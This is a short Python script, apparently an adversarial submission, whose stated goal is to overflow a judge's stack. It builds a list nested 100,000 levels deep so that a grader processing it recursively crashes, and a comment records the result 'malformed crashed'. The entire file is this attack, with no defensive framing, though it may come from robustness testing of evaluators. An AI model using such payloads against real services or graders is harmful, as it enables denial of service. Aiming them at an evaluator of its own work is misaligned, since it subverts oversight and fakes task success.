"""Goal: overflow the judge's stack"""
# held: malformed crashed

def attack():
    value = []
    for _ in range(100000):
        value = [value]
    return value
